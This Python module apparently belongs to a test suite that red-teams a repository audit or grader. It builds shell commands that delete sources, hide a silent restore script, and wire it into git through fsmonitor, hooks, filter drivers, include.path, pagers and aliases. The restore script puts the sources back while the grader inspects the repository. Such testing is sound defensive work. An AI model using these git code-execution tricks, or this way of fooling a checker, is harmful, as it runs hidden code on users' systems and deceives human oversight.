"""Attack family 4: repository-local git configuration that runs a program."""

from __future__ import annotations

from collections.abc import Callable

from redaction_pressure.audit.plan import RepoPlan

from .common import NOTHING, Attack, back_to_root, fill_w, gutted, keep, oracle, remove, restore_py, write

# -- 4. repository-local git configuration that runs a program --------------------------------


def family() -> list[Attack]:
    def hooked(setting: str) -> Callable[[RepoPlan], list[str]]:
        def commands(plan: RepoPlan) -> list[str]:
            return [
                keep(gutted(plan))
                + "\n"
                + back_to_root(oracle(plan))
                + "\n"
                + remove(plan)
                + "\n"
                + write(".restore.py", restore_py("repo"))
                + "\n"
                + fill_w(".restore.py")
                + "\nprintf '#!/bin/sh\\npython3 %s/.restore.py >/dev/null 2>&1\\nexit 0\\n' \"$W\" > .restore.sh && chmod +x .restore.sh"
                + "\n"
                + setting
            ]

        return commands

    cfg = "git -C repo config"
    settings = {
        "fsmonitor": (
            "core.fsmonitor runs a program that restores the deleted sources while the grader reads the index.",
            f'{cfg} core.fsmonitor "$W/.restore.sh"',
        ),
        "hooks_path": (
            "core.hooksPath points at hooks (post-checkout, post-index-change, reference-transaction) that restore the sources.",
            f'mkdir -p .hooks && for h in post-checkout post-index-change reference-transaction pre-auto-gc; do cp .restore.sh .hooks/$h; done && {cfg} core.hooksPath "$W/.hooks"',
        ),
        "filter_driver": (
            "A smudge/clean filter on every path runs the restoring program when git reads or writes a blob.",
            f'printf "* filter=r\\n" > repo/.git/info/attributes && {cfg} filter.r.clean "$W/.restore.sh; cat" && {cfg} filter.r.smudge "$W/.restore.sh; cat" && {cfg} filter.r.process ""',
        ),
        "include_path": (
            "include.path pulls in a config outside the repository that sets core.fsmonitor to the restoring program.",
            f'printf "[core]\\n\\tfsmonitor = %s/.restore.sh\\n" "$W" > .included.cfg && {cfg} include.path "$W/.included.cfg"',
        ),
        "pager_and_aliases": (
            "core.pager, pager.log, an alias and diff.external all name the restoring program.",
            f'{cfg} core.pager "$W/.restore.sh; cat" && {cfg} pager.log "$W/.restore.sh; cat" && {cfg} alias.log "!$W/.restore.sh" && {cfg} diff.external "$W/.restore.sh"',
        ),
    }
    return [
        Attack(
            f"git_config_{name}",
            "git configuration",
            claim,
            hooked(setting),
            lambda plan: NOTHING,
            0.0,
            lambda plan: bool(plan.history_secrets),
        )
        for name, (claim, setting) in settings.items()
    ]
